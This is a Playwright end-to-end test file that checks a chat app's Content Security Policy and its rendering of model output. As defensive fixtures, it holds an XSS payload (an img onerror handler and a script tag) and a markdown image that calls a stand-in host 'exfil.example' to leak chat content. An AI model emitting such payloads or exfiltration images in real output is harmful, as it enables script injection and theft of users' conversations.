import type { Page } from "@playwright/test";
import { expect, test } from "../support/e2e-test.ts";
import { signUp, uniqueEmail } from "../support/e2e-auth.ts";

type Violation = { directive: string; blockedURI: string; sample: string };

/** Records CSP violations as the browser reports them, plus CSP console errors. */
async function watchCsp(page: Page): Promise<{ violations: () => Promise<Violation[]>; console: string[] }> {
  const consoleErrors: string[] = [];
  page.on("console", (m) => {
    if (/content security policy/i.test(m.text())) consoleErrors.push(m.text());
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: Violation[] };
    w.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      w.__csp.push({ directive: e.violatedDirective, blockedURI: e.blockedURI, sample: e.sample }),
    );
  });
  const all: Violation[] = [];
  const collect = async () => {
    all.push(...(await page.evaluate(() => (window as unknown as { __csp: Violation[] }).__csp.splice(0))));
    return all;
  };
  return { violations: collect, console: consoleErrors };
}

test("sign-in, sign-up and a streamed chat run under the CSP without a single violation", async ({ page }) => {
  const csp = await watchCsp(page);
  const seen: Violation[] = [];
  const visit = async (url: string) => {
    const res = await page.goto(url);
    expect(res?.headers()["content-security-policy"]).toContain("'nonce-");
    seen.push(...(await csp.violations()));
  };

  await visit("/sign-in");
  await expect(page.getByRole("button", { name: "Sign in", exact: true })).toBeVisible();
  await visit("/sign-up");
  await page.getByLabel("Email").fill(`csp-${Date.now()}@example.com`);
  await page.getByLabel("Password").fill("correct horse battery");
  await page.getByRole("button", { name: "Create account" }).click();
  await expect(page.getByTestId("composer-input")).toBeVisible(); // hydrated: scripts ran
  seen.push(...(await csp.violations()));

  await page.getByTestId("composer-input").fill("Is this **markdown** rendered? [[keepalive:2]]");
  await page.getByTestId("composer-input").press("Enter");
  const answer = page.getByTestId("message-assistant").last().getByTestId("answer");
  await expect(answer).toContainText("rendered?");
  await expect(answer.locator('strong, [data-streamdown="strong"]').first()).toBeVisible();
  await expect(page.getByTestId("send-button")).toBeVisible(); // stream finished
  seen.push(...(await csp.violations()));

  await page.reload();
  await expect(page.getByTestId("message-assistant").last().getByTestId("answer")).toContainText("rendered?");
  seen.push(...(await csp.violations()));

  expect(seen).toEqual([]);
  expect(csp.console).toEqual([]);
});

test("raw HTML in model output is never rendered as markup, while it streams and once it is done", async ({ page }) => {
  const csp = await watchCsp(page);
  await signUp(page, uniqueEmail("rawhtml"));
  // The emulator echoes the prompt, so the answer carries the HTML. (The browser's Markdown stack
  // has no HTML parser at all: next.config.ts, lib/stand-ins/rehype-raw.ts.)
  await page.getByTestId("composer-input").fill('Bold <b data-raw="b">text</b> <img data-raw="img" src="x" onerror="window.__xss=1"> <script>window.__xss=2</script> [[slow:20]]');
  await page.getByTestId("composer-input").press("Enter");
  const answer = page.getByTestId("message-assistant").last().getByTestId("answer");
  await expect(answer).toContainText("Bold");
  const none = async () => {
    expect(await answer.locator("[data-raw], b, img, script").count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  };
  await none(); // streaming
  await expect(page.getByTestId("send-button")).toBeVisible();
  await none(); // done
  await page.reload(); // rendered by the server, then hydrated
  await expect(page.getByTestId("message-assistant").last().getByTestId("answer")).toContainText("Bold");
  await none();
  expect(await csp.violations()).toEqual([]);
});

test("remote images in model output are not loaded (no exfiltration through image URLs)", async ({ page }) => {
  const csp = await watchCsp(page);
  const loaded: string[] = [];
  const failed: string[] = [];
  page.on("response", (r) => {
    if (r.url().includes("exfil.example")) loaded.push(r.url());
  });
  page.on("requestfailed", (r) => {
    if (r.url().includes("exfil.example")) failed.push(r.failure()?.errorText ?? "");
  });
  await page.goto("/sign-up");
  await page.getByLabel("Email").fill(`img-${Date.now()}@example.com`);
  await page.getByLabel("Password").fill("correct horse battery");
  await page.getByRole("button", { name: "Create account" }).click();
  await expect(page.getByTestId("composer-input")).toBeVisible();

  // The emulator echoes the prompt, so the answer contains the markdown image.
  await page.getByTestId("composer-input").fill("![pixel](https://exfil.example/collect?secret=chat-content)");
  await page.getByTestId("composer-input").press("Enter");
  await expect(page.getByTestId("send-button")).toBeVisible();
  await expect(page.getByTestId("message-assistant").last().getByTestId("answer")).toContainText("You said");
  // Two layers: the renderer never creates an <img> for a remote URL (it shows a link instead), and
  // the CSP's img-src would block one anyway. So the browser never even tries the request.
  await expect(page.getByTestId("message-assistant").last().locator('img[src*="exfil.example"]')).toHaveCount(0);
  expect(loaded).toEqual([]);
  expect(failed).toEqual([]);
  expect((await csp.violations()).filter((v) => !v.blockedURI.includes("exfil.example"))).toEqual([]);
});
